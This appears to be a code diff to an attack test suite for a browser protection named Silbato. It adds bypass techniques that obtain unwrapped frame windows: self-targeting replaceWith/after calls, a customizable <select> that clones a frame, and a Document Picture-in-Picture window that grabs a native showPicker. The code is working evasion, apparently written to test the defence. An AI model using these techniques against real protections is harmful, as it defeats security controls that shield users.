@@ -77,13 +77,21 @@ import { grabScript, js, openGrabbedScript, sendScript as send } from './uploads
  * - cegetter: a getter for disconnectedCallback up the prototype chain,
  *   run by Silbato's own reading of the callbacks, puts the page's own
  *   connectedCallback back over Silbato's stand-in;
+ * - selfreplace / selfafter / selftext: anchor.replaceWith(anchor, frame,
+ *   script) / anchor.after(anchor, frame, script) / the same on a text
+ *   node: a node that holds the target (itself) makes Silbato's wrapper
+ *   hand the call to the browser as it is (it would throw… but does not);
+ * - selectedcontent: a customizable <select> (a <button> holding
+ *   <selectedcontent>) whose second option holds a frame; selectedIndex set
+ *   to 1: the browser clones the option's content, frame and all, into
+ *   <selectedcontent> itself, a new frame connected by no DOM call;
  * - deepchain: 60 frames nested in one another (Silbato's walk starts from
  *   its wrapped realms, most recent first, and stops at 1024 windows), then
  *   a frame in the page's HTML read by the next script;
  * - movebefore: an <object> in a hidden container moved with moveBefore
  *   (not wrapped) into a shown one, a property looked up at once.
  */
-const WAYS = ['control', 'winload', 'winloadparser', 'objectblank', 'objectblankparser', 'dsdload', 'dsdjsurl', 'dsdopenjsurl', 'shadowjsurl', 'openshadowjsurl', 'parsejsurl', 'shadowexec', 'jsurl', 'objectlateclose', 'cegetter', 'deepchain', 'docwriteobj', 'docwriteslash', 'docwritesplit', 'docwriteobject', 'ceproxyext', 'ceproxyctor', 'ceproxyproto', 'cenonconfig', 'ceupgrade', 'objectdata', 'embeddata', 'objecttype', 'objectfallback', 'movebefore'];
+const WAYS = ['control', 'winload', 'winloadparser', 'objectblank', 'objectblankparser', 'dsdload', 'dsdjsurl', 'dsdopenjsurl', 'shadowjsurl', 'openshadowjsurl', 'parsejsurl', 'shadowexec', 'jsurl', 'objectlateclose', 'cegetter', 'deepchain', 'selfreplace', 'selfafter', 'selftext', 'selectedcontent', 'docwriteobj', 'docwriteslash', 'docwritesplit', 'docwriteobject', 'ceproxyext', 'ceproxyctor', 'ceproxyproto', 'cenonconfig', 'ceupgrade', 'objectdata', 'embeddata', 'objecttype', 'objectfallback', 'movebefore'];
 
 const grabbing = `
   const FRAME = '<iframe src="/px/never.gif" style="display:none"></iframe>';
@@ -206,7 +214,18 @@ const grabbing = `
       // Without Silbato, the outer object's own frame (its 404 page) comes first, the inner's with the fallback, later.
       window.outerFrames = window.length - before;
       if (window.length > before + 1) grab(last(), 'inner object, at once');
-      else poll(before + 1, 'polled: fallback content');
+      else {
+        // Each turn, a property of the inner one is looked up (Chromium makes its frame then, once it is rendered).
+        const inner = document.getElementById('inner');
+        const until = Date.now() + 10000;
+        const look = () => {
+          inner.anything;
+          if (window.length > before + 1) grab(last(), 'inner object, looked up once the outer fell back');
+          else if (Date.now() < until) setTimeout(look, 0);
+          else window.how = 'poll gave up (window.length ' + window.length + ')';
+        };
+        look();
+      }
     } else if (via === 'shadowjsurl' || via === 'openshadowjsurl') {
       const box = document.createElement('div');
       document.body.append(box);
@@ -238,6 +257,33 @@ const grabbing = `
       customElements.define('x-getter', C, { extends: 'iframe' });
       defining = false;
       ceFrame('x-getter');
+    } else if (via === 'selfreplace' || via === 'selfafter' || via === 'selftext') {
+      // Silbato's wrapper lets the browser have the call as it is when a
+      // node inserted holds the target (the browser then throws): a node
+      // that is its own target does, yet the browser takes it.
+      const anchor = via === 'selftext' ? document.createTextNode('') : document.createElement('span');
+      document.body.append(anchor);
+      const s = document.createElement('script');
+      s.textContent = 'grab(last(), "script inserted with the frame (' + via + ')")';
+      if (via === 'selfafter') anchor.after(anchor, frame(), s);
+      else if (via === 'selftext') anchor.after(anchor, frame(), s);
+      else anchor.replaceWith(anchor, frame(), s);
+    } else if (via === 'selectedcontent') {
+      // A customizable <select>: the browser clones the selected option's
+      // content into <selectedcontent> itself, as the selection changes.
+      const sel = document.createElement('select');
+      const button = document.createElement('button');
+      button.append(document.createElement('selectedcontent'));
+      const a = document.createElement('option');
+      a.textContent = 'a';
+      const b = document.createElement('option');
+      b.append(frame());
+      sel.append(button, a, b);
+      document.body.append(sel);
+      const had = window.length;
+      sel.selectedIndex = 1;
+      window.cloned = window.length - had;
+      if (window.length > had) grab(last(), 'the clone in <selectedcontent>, read at once');
     } else if (via === 'jsurl') {
       const box = document.createElement('div');
       box.innerHTML = JSFRAME;
@@ -289,7 +335,33 @@ function picker(query) {
 </script>`;
 }
 
+/**
+ * A Document Picture-in-Picture window (`documentPictureInPicture
+ * .requestWindow()`, on the person's first click): a new window of the
+ * page's origin, at its first, empty document, that the page opens with
+ * no call Silbato wraps. Its native showPicker is taken at once; the
+ * person's second click ("attach a photo") opens it on a never-attached
+ * input.
+ */
+const pip = `<button id="pip">watch in a small window</button><button id="open">attach a photo</button><p id="status"></p><script>${grabScript}
+  const grab0 = window.grab;
+  window.grab = (w, how) => { if (w && !window.grabbed) { window.how = how || '?'; grab0(w); } };
+</script><script>${send}
+  window.ready = true;
+  document.getElementById('pip').onclick = async () => {
+    if (!('documentPictureInPicture' in window)) { window.how = 'no documentPictureInPicture'; return; }
+    try {
+      const w = await documentPictureInPicture.requestWindow({ width: 200, height: 200 });
+      grab(w, 'a Document Picture-in-Picture window');
+    } catch (e) {
+      window.how = 'requestWindow threw ' + e.name + ': ' + e.message;
+    }
+  };
+  ${openGrabbedScript}
+</script>`;
+
 export function attack8Page(path, query) {
   if (path === '/attack8-picker') return picker(query);
+  if (path === '/attack8-pip') return pip;
   return undefined;
 }
